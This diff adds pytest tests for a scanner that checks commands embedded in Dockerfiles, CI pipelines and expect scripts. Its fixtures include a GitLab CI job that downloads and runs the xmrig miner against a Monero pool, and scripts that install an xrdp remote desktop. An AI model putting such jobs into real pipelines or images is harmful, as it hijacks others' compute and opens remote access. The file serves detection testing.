@@ -1,0 +1,57 @@
+"""Commands inside Dockerfiles, CI pipelines, Procfiles and expect scripts are checked as the shell they are,
+on their own lines; look-alike files of the same kinds stay clean."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from nbwarden.embedded import commands, kind_of_name
+from nbwarden.engine import Engine
+from nbwarden.scan import check_file
+
+
+@pytest.fixture(scope="module")
+def engine():
+    return Engine()
+
+
+CASES = [
+    # (file name, content, category expected or None for a benign look-alike)
+    ("Dockerfile", "FROM debian:12\nRUN apt-get update && \\\n    apt-get install -y xrdp xfce4\nEXPOSE 3389\n"
+                   "CMD [\"/usr/sbin/xrdp\", \"--nodaemon\"]\n", "remote_desktop_ssh"),
+    ("Dockerfile", "FROM python:3.11\nRUN pip install --no-cache-dir jupyterlab numpy pandas\nEXPOSE 8888\n"
+                   "CMD [\"jupyter\", \"lab\", \"--ip=0.0.0.0\"]\n", None),
+    (".gitlab-ci.yml", "mine:\n  image: ubuntu\n  script:\n  - wget https://github.com/xmrig/xmrig/releases/download/"
+                       "v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz\n  - tar xf xmrig-6.21.0-linux-static-x64.tar.gz\n"
+                       "  - ./xmrig-6.21.0/xmrig -o gulf.moneroocean.stream:10128 -u 44AFFq5kSiGBoZ4NMDwYt\n",
+     "crypto_mining"),
+    (".gitlab-ci.yml", "test:\n  image: python:3.11\n  script:\n  - pip install -e .[test]\n  - pytest -q\n", None),
+    ("rdp.exp", "#!/usr/bin/expect -f\nspawn sudo apt-get install -y xrdp\nexpect \"Do you want\"\nsend \"y\\r\"\n"
+                "spawn sudo service xrdp start\nexpect eof\n", "remote_desktop_ssh"),
+    ("deploy.exp", "spawn ssh user@build.example.org\nexpect \"password:\"\nsend \"$env(PASS)\\r\"\n"
+                   "send \"make test\\r\"\nexpect eof\n", None),
+]
+
+
+@pytest.mark.parametrize("name, text, category", CASES, ids=[f"{c[0]}-{c[2] or 'benign'}" for c in CASES])
+def test_embedded_commands_are_checked_as_shell(tmp_path, engine, name, text, category):
+    path = tmp_path / name
+    path.write_text(text)
+    verdict = check_file(path, engine).verdict
+    if category is None:
+        assert verdict["action"] in ("allow", "audit"), verdict
+    else:
+        assert verdict["action"] in ("warn", "block") and verdict["category"] == category, verdict
+
+
+def test_commands_keep_their_lines_and_odd_files_give_none():
+    text = "FROM x\n\nRUN a && \\\n  b\nCMD [\"c\", \"d e\"]\n"
+    out = commands("dockerfile", text).split("\n")
+    assert out[2] == "a && \\" and out[3] == "  b" and out[4] == "c 'd e'" and len(out) == len(text.split("\n"))
+    assert commands("pipeline", "key: [unclosed\n  - : :\n\t\x00") == ""
+    assert commands("dockerfile", "RUN [\"broken\n") == "[\"broken\n"  # not a list: kept as written
+    assert commands("pipeline", "run: [python, '-m', http.server]") == "python -m http.server"
+    assert kind_of_name("a/.github/workflows/ci.yml") == "pipeline" and kind_of_name("config.yml") is None
+    assert kind_of_name("docker/Dockerfile.gpu") == "dockerfile" and kind_of_name("notes.txt") is None
